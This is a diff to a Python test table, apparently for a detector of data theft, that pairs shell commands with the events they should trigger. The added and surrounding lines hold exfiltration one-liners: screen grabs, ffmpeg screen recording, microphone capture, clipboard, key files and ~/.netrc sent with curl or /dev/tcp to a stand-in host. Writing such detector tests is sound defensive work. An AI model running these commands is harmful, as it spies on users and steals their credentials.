@@ -350,6 +350,15 @@ CASES: dict[str, tuple[str, list[Expected]]] = {
         [("connect", {"SentData": "/tmp/x.tgz ~/.ssh"})],
     ),
     "output": (f"whoami | curl -d @- {FAR}", [("connect", {"SentData": "command:whoami"})]),
+    "screen": (
+        f"screencapture -x /tmp/s.png && curl -F f=@/tmp/s.png {FAR}",
+        [("write", {"TargetFilename": "/tmp/s.png"}), ("connect", {"SentData": "/tmp/s.png screen"})],
+    ),
+    "screen as a film": (
+        f"ffmpeg -f x11grab -i :0 -t 10 /tmp/s.mp4\ncurl -T /tmp/s.mp4 {FAR}",
+        [("connect", {"SentData": "/tmp/s.mp4 screen"})],
+    ),
+    "microphone": (f"arecord -d 5 a.wav; curl -T a.wav {FAR}", [("connect", {"SentData": "a.wav microphone"})]),
     "clipboard": (f"pbpaste | curl -d @- {FAR}", [("connect", {"SentData": "clipboard"})]),
     "read loop": (f'while read -r l; do curl -d "$l" {FAR}; done < {KEY}', [("connect", {"SentData": KEY})]),
     "network file": ("cat ~/.netrc > /dev/tcp/192.0.2.1/80", [("connect", {"SentData": "~/.netrc"})]),
